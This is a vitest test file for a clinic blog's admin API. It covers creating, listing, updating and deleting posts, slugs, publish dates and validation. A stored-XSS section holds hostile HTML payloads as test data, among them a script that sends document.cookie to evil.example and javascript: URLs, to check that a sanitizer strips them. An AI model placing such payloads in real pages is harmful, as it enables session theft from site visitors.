import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ADMIN, startTestApp, type TestApp } from '../support/test-app';

let app: TestApp;
let cookie: string;
beforeAll(async () => {
  app = await startTestApp();
  cookie = await app.signIn();
});
afterAll(() => app?.close());
beforeEach(async () => {
  app.clock.reset();
  await app.deps.knex('blog_posts').delete();
});

const post = {
  title: 'Caring for Baby Teeth',
  excerpt: 'Why milk teeth matter more than you think.',
  content: '<p>Brush twice a day.</p>',
};

const admin = (path: string, init: RequestInit & { json?: unknown } = {}) =>
  app.request(`/api/admin/blog-posts${path}`, { ...init, cookie });
const create = async (body: object) => {
  const res = await admin('', { method: 'POST', json: body });
  expect(res.status, await res.clone().text()).toBe(201);
  return res.json();
};
const update = (id: number, body: object) => admin(`/${id}`, { method: 'PUT', json: body });
const list = async (query = '') => (await admin(query)).json();

describe('POST /api/admin/blog-posts', () => {
  it('creates a draft by default, with a slug from the title and the signed-in admin as author', async () => {
    const res = await admin('', { method: 'POST', json: post });
    expect(res.status).toBe(201);
    const body = await res.json();
    expect(body).toEqual({
      id: expect.any(Number),
      title: post.title,
      slug: 'caring-for-baby-teeth',
      excerpt: post.excerpt,
      content: post.content,
      author: ADMIN.name,
      imageUrl: null,
      isPublished: false,
      publishedAt: null,
      createdAt: expect.any(String),
    });
  });

  it('sets publishedAt when created published, at the clinic clock', async () => {
    app.clock.set('2026-11-23T05:00:00Z');
    const body = await create({ ...post, isPublished: true, imageUrl: '/media/00000000-0000-4000-8000-000000000000.jpg' });
    expect(body).toMatchObject({ isPublished: true, publishedAt: '2026-11-23T05:00:00.000Z', imageUrl: expect.stringMatching(/^\/media\//) });
  });

  it.each([
    ['title', { title: '' }, 'Title is required'],
    ['title', { title: '   ' }, 'Title is required'],
    ['excerpt', { excerpt: '' }, 'Excerpt is required'],
    ['content', { content: '' }, 'Content is required'],
    ['imageUrl', { imageUrl: 'javascript:alert(1)' }, 'Please enter a valid image URL'],
  ])('refuses a bad %s with the spec message', async (field, change, message) => {
    const res = await admin('', { method: 'POST', json: { ...post, ...change } });
    expect(res.status).toBe(400);
    expect(await res.json()).toEqual({ error: message, fields: { [field]: message } });
    expect(await list()).toEqual([]);
  });

  it('refuses a missing title the same way', async () => {
    const { title: _title, ...rest } = post;
    const res = await admin('', { method: 'POST', json: rest });
    expect(res.status).toBe(400);
    expect((await res.json()).error).toBe('Title is required');
  });

  it('gives each post its own slug: title, title-2, title-3', async () => {
    const slugs = [];
    for (let i = 0; i < 3; i += 1) slugs.push((await create(post)).slug);
    expect(slugs).toEqual(['caring-for-baby-teeth', 'caring-for-baby-teeth-2', 'caring-for-baby-teeth-3']);
    expect((await create({ ...post, title: 'Ça va? Brushing & Flossing!' })).slug).toBe('ca-va-brushing-and-flossing');
  });

  it('gives concurrent posts with one title distinct slugs', async () => {
    const results = await Promise.all(Array.from({ length: 12 }, () => admin('', { method: 'POST', json: post })));
    expect(results.map((r) => r.status)).toEqual(Array(12).fill(201));
    const slugs = (await Promise.all(results.map((r) => r.json()))).map((p) => p.slug);
    expect(new Set(slugs).size).toBe(12);
  });
});

describe('stored XSS (BLOG-5)', () => {
  const dirty = [
    '<h2 onclick="steal()">Tips</h2>',
    '<script>document.location="https://evil.example/?c="+document.cookie</script>',
    '<p>Hello <img src="x" onerror="alert(1)"><img src="/media/00000000-0000-4000-8000-000000000000.jpg" alt="ok" onload="alert(2)"></p>',
    '<a href="javascript:alert(3)">click</a> <a href=" JaVaScRiPt:alert(4)">again</a>',
    '<a href="https://example.org/guide" target="_blank">guide</a>',
    '<iframe src="https://evil.example/frame"></iframe><object data="x"></object>',
    '<div style="background:url(javascript:alert(5))"><svg onload="alert(6)"></svg>kept text</div>',
  ].join('\n');

  function expectClean(html: string) {
    expect(html).not.toMatch(/<script|<iframe|<object|<svg|<div|style=/i);
    expect(html).not.toMatch(/\son\w+=/i);
    expect(html).not.toMatch(/javascript:/i);
    expect(html).not.toContain('src="x"');
    expect(html).toContain('<h2>Tips</h2>');
    expect(html).toContain('<img src="/media/00000000-0000-4000-8000-000000000000.jpg" alt="ok" />');
    expect(html).toContain('<a href="https://example.org/guide" target="_blank" rel="noopener noreferrer">guide</a>');
    expect(html).toContain('kept text');
  }

  it('cleans the content before storing it and in the admin list', async () => {
    const created = await create({ ...post, content: dirty, isPublished: true });
    expectClean(created.content);
    const stored = await app.deps.knex('blog_posts').where({ id: created.id }).first();
    expectClean(stored.content);
    expectClean((await list())[0].content);
  });

  it('cleans again on the way out: dirty HTML already in the table never reaches the admin or a reader', async () => {
    const { id, slug } = await create({ ...post, isPublished: true });
    await app.deps.knex('blog_posts').where({ id }).update({ content: dirty });
    app.deps.cache.invalidate('blog');
    expectClean((await list())[0].content);
    const res = await app.request(`/api/blog-posts/${slug}`);
    expect(res.status).toBe(200);
    expectClean((await res.json()).content);
  });
});

describe('GET /api/admin/blog-posts', () => {
  it('lists drafts and published posts, newest first, and searches title and excerpt without case', async () => {
    app.clock.set('2026-01-01T00:00:00Z');
    await create({ ...post, title: 'Flossing basics', excerpt: 'A short guide.' });
    app.clock.set('2026-02-01T00:00:00Z');
    await create({ ...post, title: 'Whitening myths', excerpt: 'What FLOSS cannot do.', isPublished: true });
    app.clock.set('2026-03-01T00:00:00Z');
    await create({ ...post, title: 'Braces for adults', excerpt: 'Never too late.' });

    expect((await list()).map((p: { title: string }) => p.title)).toEqual(['Braces for adults', 'Whitening myths', 'Flossing basics']);
    expect((await list('?q=floss')).map((p: { title: string }) => p.title)).toEqual(['Whitening myths', 'Flossing basics']);
    expect((await list('?q=100%25')).length).toBe(0);
    expect((await list('?limit=1&offset=1')).map((p: { title: string }) => p.title)).toEqual(['Whitening myths']);
    expect((await admin('?limit=1&q=floss')).headers.get('x-total-count')).toBe('2');
    expect((await admin('')).headers.get('x-total-count')).toBeNull();
  });

  it('refuses a bad limit', async () => {
    const res = await admin('?limit=abc');
    expect(res.status).toBe(400);
  });
});

describe('PUT /api/admin/blog-posts/:id', () => {
  it('updates the post and answers it', async () => {
    const { id } = await create(post);
    const res = await update(id, { id, ...post, excerpt: 'New excerpt', content: '<p>New <strong>text</strong></p>' });
    expect(res.status).toBe(200);
    expect(await res.json()).toMatchObject({ id, excerpt: 'New excerpt', content: '<p>New <strong>text</strong></p>', author: ADMIN.name });
  });

  it("changes a draft's slug with its title, and keeps it once the post has been published", async () => {
    const { id } = await create(post);
    expect((await (await update(id, { ...post, title: 'Milk Teeth Matter' })).json()).slug).toBe('milk-teeth-matter');

    // Publishing with a new title: the slug follows the title one last time.
    const published = await (await update(id, { ...post, title: 'Milk Teeth Really Matter', isPublished: true })).json();
    expect(published.slug).toBe('milk-teeth-really-matter');

    expect((await (await update(id, { ...post, title: 'A Completely New Title', isPublished: true })).json()).slug).toBe('milk-teeth-really-matter');
    // Unpublished again: still the same address, so links shared earlier work when it comes back.
    expect((await (await update(id, { ...post, title: 'Another Title', isPublished: false })).json()).slug).toBe('milk-teeth-really-matter');
  });

  it('does not take a slug from another post when a draft is renamed', async () => {
    await create({ ...post, title: 'Gum care' });
    const { id } = await create({ ...post, title: 'Something else' });
    expect((await (await update(id, { ...post, title: 'Gum Care' })).json()).slug).toBe('gum-care-2');
    // Its own slug stays its own when the title is saved again unchanged.
    expect((await (await update(id, { ...post, title: 'Gum Care' })).json()).slug).toBe('gum-care-2');
  });

  it('sets publishedAt the first time the post is published and keeps it after', async () => {
    const { id } = await create(post);
    app.clock.set('2026-04-01T10:00:00Z');
    expect((await (await update(id, { ...post, isPublished: true })).json()).publishedAt).toBe('2026-04-01T10:00:00.000Z');
    app.clock.set('2026-05-01T10:00:00Z');
    expect((await (await update(id, { ...post, isPublished: true, excerpt: 'Edited' })).json()).publishedAt).toBe('2026-04-01T10:00:00.000Z');
    const unpublished = await (await update(id, { ...post, isPublished: false })).json();
    expect(unpublished).toMatchObject({ isPublished: false, publishedAt: '2026-04-01T10:00:00.000Z' });
    app.clock.set('2026-06-01T10:00:00Z');
    expect((await (await update(id, { ...post, isPublished: true })).json()).publishedAt).toBe('2026-04-01T10:00:00.000Z');
  });

  it('keeps the publish state and the image when the body leaves them out', async () => {
    const image = 'https://cdn.example.org/teeth.jpg';
    const { id } = await create({ ...post, isPublished: true, imageUrl: image });
    const body = await (await update(id, { title: post.title, excerpt: 'Edited', content: post.content })).json();
    expect(body).toMatchObject({ isPublished: true, imageUrl: image, excerpt: 'Edited' });
    expect((await (await update(id, { ...post, imageUrl: '' })).json()).imageUrl).toBeNull();
  });

  it('refuses bad input with the spec messages', async () => {
    const { id } = await create(post);
    for (const [change, message] of [
      [{ title: '' }, 'Title is required'],
      [{ excerpt: '' }, 'Excerpt is required'],
      [{ content: '' }, 'Content is required'],
    ] as const) {
      const res = await update(id, { ...post, ...change });
      expect(res.status).toBe(400);
      expect((await res.json()).error).toBe(message);
    }
  });

  it('answers 404 for an unknown or malformed id', async () => {
    for (const id of ['999999', 'abc', '0', '99999999999']) {
      const res = await admin(`/${id}`, { method: 'PUT', json: post });
      expect(res.status, id).toBe(404);
      expect(await res.json()).toEqual({ error: 'Blog post not found' });
    }
  });
});

describe('DELETE /api/admin/blog-posts/:id', () => {
  it('deletes the post (204), then answers 404', async () => {
    const { id } = await create(post);
    const res = await admin(`/${id}`, { method: 'DELETE' });
    expect(res.status).toBe(204);
    expect(await res.text()).toBe('');
    expect(await list()).toEqual([]);
    expect((await admin(`/${id}`, { method: 'DELETE' })).status).toBe(404);
  });
});

describe('without a session', () => {
  it.each([
    ['GET', ''],
    ['POST', ''],
    ['PUT', '/1'],
    ['DELETE', '/1'],
  ])('%s /api/admin/blog-posts%s answers 401', async (method, path) => {
    const res = await app.request(`/api/admin/blog-posts${path}`, { method, json: method === 'POST' || method === 'PUT' ? post : undefined });
    expect(res.status).toBe(401);
    expect(await res.json()).toEqual({ error: 'Not signed in' });
  });
});
